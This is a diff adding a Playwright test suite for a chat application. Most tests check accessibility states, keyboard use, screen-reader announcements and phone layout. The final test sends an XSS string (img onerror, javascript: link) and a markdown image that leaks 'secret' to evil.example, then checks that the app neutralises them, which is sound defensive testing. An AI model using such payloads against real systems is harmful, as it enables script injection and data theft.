@@ -1,0 +1,91 @@
+import { AxeBuilder } from '@axe-core/playwright';
+import type { Page } from '@playwright/test';
+import { PageDriver } from './page-driver';
+import { expect, test } from './product';
+
+async function expectNoBarriers(page: Page, state: string): Promise<void> {
+  const { violations } = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
+  expect(violations.map(({ id, nodes }) => `${state}: ${id} at ${nodes[0]?.html}`)).toEqual([]);
+}
+
+for (const colorScheme of ['light', 'dark'] as const) {
+  test(`every state of the page is free of barriers (${colorScheme})`, async ({ page, product: { stack } }) => {
+    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
+    const driver = new PageDriver(page);
+    await page.goto(`${stack.origin}/signin`);
+    await driver.button('Sign in').waitFor();
+    await expectNoBarriers(page, 'sign in');
+    await driver.signUp(stack.origin);
+    await expectNoBarriers(page, 'empty');
+    await driver.send('[[sim rate=60]] Everything, please.');
+    await expect.poll(() => driver.answerText()).not.toBe('');
+    await expectNoBarriers(page, 'streaming');
+    await driver.finished();
+    await expectNoBarriers(page, 'answered');
+    await driver.send('[[sim status=400]] Refused.');
+    await expect(driver.log.getByText(/did not accept/i)).toBeVisible();
+    await expectNoBarriers(page, 'failed');
+    await page.goto(`${stack.origin}/settings`);
+    await page.getByRole('radio', { name: 'Dark' }).waitFor();
+    await expectNoBarriers(page, 'settings');
+  });
+}
+
+test('the main way goes by keyboard alone', async ({ driver, page }) => {
+  await page.keyboard.press('Control+Shift+o');
+  await expect(driver.messageBox).toBeFocused();
+  await page.keyboard.type('[[sim tokens=300 rate=50]] Typed.');
+  await page.keyboard.press('Shift+Enter');
+  await page.keyboard.type('On two lines.');
+  await page.keyboard.press('Enter');
+  await expect(driver.button('Stop')).toBeVisible();
+  await expect.poll(() => driver.answerText()).toMatch(/t3 /);
+  await page.keyboard.press('Escape');
+  await expect(driver.log.getByText(/Stopped, \d+ tokens/)).toBeVisible();
+  await page.keyboard.press('Control+/');
+  await expect(page.getByRole('dialog')).toBeVisible();
+});
+
+test('a screen reader hears the start and the end of an answer, and not each token', async ({ driver, page }) => {
+  await page.evaluate(() => {
+    const heard: string[] = [];
+    Object.assign(globalThis, { heard });
+    const regions = '[aria-live="polite"], [role="status"]';
+    new MutationObserver(() => {
+      for (const region of document.querySelectorAll(regions)) {
+        const text = region.textContent?.trim() ?? '';
+        if (text && heard.at(-1) !== text) heard.push(text);
+      }
+    }).observe(document.body, { subtree: true, childList: true, characterData: true });
+  });
+  await driver.send('[[sim tokens=60 rate=60]] Spoken.');
+  await driver.finished();
+  const heard = await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
+  expect(heard.some((text) => /answer|assistant/i.test(text))).toBe(true);
+  expect(heard.filter((text) => /t1 t2/.test(text)).length).toBeLessThanOrEqual(1);
+});
+
+test('everything is there on a phone', async ({ browser, product: { stack } }) => {
+  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });
+  const driver = new PageDriver(await context.newPage());
+  await driver.signUp(stack.origin);
+  await driver.ask('[[sim tokens=30]] From a phone.');
+  const overhang = await driver.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+  expect(overhang).toBeLessThanOrEqual(0);
+  await driver.button('Open sidebar').click();
+  await expect(driver.conversations.getByRole('link', { name: /From a phone/ })).toBeVisible();
+  await context.close();
+});
+
+test('a script in an answer never runs, and no image is fetched from elsewhere', async ({ driver, page }) => {
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) foreign.push(request.url());
+  });
+  const attack = '<img src=x onerror=globalThis.hacked=1> ![x](https://evil.example/?q=secret) [y](javascript:globalThis.hacked=1)';
+  await driver.ask(`${attack} [[sim rate=400]]`);
+  await expect(driver.answers.last()).toContainText('You wrote');
+  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
+  expect(foreign).toEqual([]);
+  await expect(driver.answers.last().locator('a[href^="javascript"]')).toHaveCount(0);
+});
